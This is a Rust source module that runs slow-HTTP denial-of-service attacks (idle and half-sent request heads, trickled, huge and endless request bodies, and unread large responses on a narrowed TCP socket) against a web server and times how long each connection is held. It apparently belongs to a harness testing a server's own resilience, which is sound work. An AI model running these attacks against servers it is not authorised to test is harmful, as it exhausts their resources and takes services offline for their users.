//! One attacking client: what it sends, and how long the server keeps its connection.

use std::net::SocketAddr;
use std::time::Duration;

use anyhow::Context as _;
use socket2::{Domain, Socket, Type};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream, lookup_host};
use tokio::time::{Instant, sleep};

/// A way to use up the server's connections or memory.
#[derive(Clone, Copy)]
pub(crate) enum Attack {
    /// Connects and sends nothing.
    Idle,
    /// Sends half of a request head.
    HalfHead,
    /// The same, and connects again whenever the server closes the connection, for 20 s.
    ReopenedHalfHead,
    /// Sends one byte of a body each second.
    TrickledBody,
    /// Sends 2 KiB of a body each second: enough for the minimum rate of a server that is not saturated.
    SteadyBody,
    /// Sends a body of 100 MB as fast as it can.
    LargeBody,
    /// Sends a chunked body without end as fast as it can.
    EndlessBody,
    /// Requests the largest page and reads nothing of it.
    UnreadResponse,
}

/// The server and a session on it.
#[derive(Clone)]
pub(crate) struct Target {
    /// `host:port`.
    pub(crate) authority: String,
    pub(crate) cookies: String,
}

/// The largest page.
const LARGE_PAGE: &str = "/rsvp?per_page=100";

/// For how long an attacker reopens its connections.
const REOPEN_PERIOD: Duration = Duration::from_secs(20);

/// The segment and buffer sizes of a client that leaves a response unread, in bytes.
///
/// On the loopback a segment has 64 KiB and the server's send buffer megabytes, so that the system would take the whole
/// response; with these, little of it.
const SEGMENT_SIZE: u32 = 536;
const RECEIVE_BUFFER_SIZE: u32 = 4_096;

impl Attack {
    /// Attacks until the server closes the connection. Returns how long that took.
    pub(crate) async fn run(self, target: Target) -> anyhow::Result<Duration> {
        let start = Instant::now();
        match self {
            Self::Idle => hold(connect(&target).await?, "").await,
            Self::HalfHead => hold(connect(&target).await?, &half_head(&target)).await,
            Self::ReopenedHalfHead => {
                while start.elapsed() < REOPEN_PERIOD {
                    hold(connect(&target).await?, &half_head(&target)).await;
                }
            }
            Self::TrickledBody => send_body(&target, "Content-Length: 60000", Duration::from_secs(1), b"x").await?,
            Self::SteadyBody => {
                send_body(&target, "Content-Length: 60000", Duration::from_secs(1), &[b'x'; 2_048]).await?;
            }
            Self::LargeBody => {
                send_body(&target, "Content-Length: 100000000", Duration::ZERO, &vec![b'x'; 64 << 10]).await?;
            }
            Self::EndlessBody => {
                let chunk = format!("10000\r\n{}\r\n", "x".repeat(64 << 10)).into_bytes();
                send_body(&target, "Transfer-Encoding: chunked", Duration::ZERO, &chunk).await?;
            }
            Self::UnreadResponse => leave_unread(&target).await?,
        }
        Ok(start.elapsed())
    }
}

async fn connect(target: &Target) -> anyhow::Result<TcpStream> {
    TcpStream::connect(&target.authority).await.context("the server accepts no connection")
}

fn half_head(target: &Target) -> String {
    format!("GET /login HTTP/1.1\r\nHost: {}\r\nX-Half", target.authority)
}

/// Sends `request`, then reads until the server closes the connection.
async fn hold(mut stream: TcpStream, request: &str) {
    if stream.write_all(request.as_bytes()).await.is_ok() {
        discard(&mut stream).await;
    }
}

async fn discard(stream: &mut (impl tokio::io::AsyncRead + Unpin)) {
    let mut buffer = [0; 4096];
    while stream.read(&mut buffer).await.is_ok_and(|length| length > 0) {}
}

/// Sends the head of a form, then `chunk` after each `interval`, until the server closes the connection.
async fn send_body(target: &Target, framing: &str, interval: Duration, chunk: &[u8]) -> anyhow::Result<()> {
    let (mut from, mut to) = connect(target).await?.into_split();
    let host = &target.authority;
    let head = format!("POST /login HTTP/1.1\r\nHost: {host}\r\nSec-Fetch-Site: same-origin\r\n{framing}\r\n\r\n");
    let reader = tokio::spawn(async move { discard(&mut from).await });
    if to.write_all(head.as_bytes()).await.is_ok() {
        loop {
            sleep(interval).await;
            if to.write_all(chunk).await.is_err() {
                break;
            }
        }
    }
    reader.abort();
    Ok(())
}

/// Requests a large page, reads nothing, and waits until the server closes the connection.
async fn leave_unread(target: &Target) -> anyhow::Result<()> {
    let address = lookup_host(&target.authority).await?.next().context("no such host")?;
    let mut stream = narrow_socket(address)?.connect(address).await?;
    let (host, cookies) = (&target.authority, &target.cookies);
    let request = format!("GET {LARGE_PAGE} HTTP/1.1\r\nHost: {host}\r\nCookie: {cookies}\r\n\r\n");
    if stream.write_all(request.as_bytes()).await.is_err() {
        return Ok(());
    }
    // Nothing is read, so a closed connection shows only when something is sent: a blank line before a next request,
    // which servers ignore.
    loop {
        sleep(Duration::from_millis(500)).await;
        if stream.write_all(b"\r\n").await.is_err() {
            return Ok(());
        }
    }
}

/// A socket whose peer can send little before it is acknowledged.
fn narrow_socket(address: SocketAddr) -> anyhow::Result<TcpSocket> {
    let socket = Socket::new(Domain::for_address(address), Type::STREAM, None)?;
    socket.set_nonblocking(true)?;
    socket.set_tcp_mss(SEGMENT_SIZE)?;
    let socket = TcpSocket::from_std_stream(socket.into());
    socket.set_recv_buffer_size(RECEIVE_BUFFER_SIZE)?;
    Ok(socket)
}
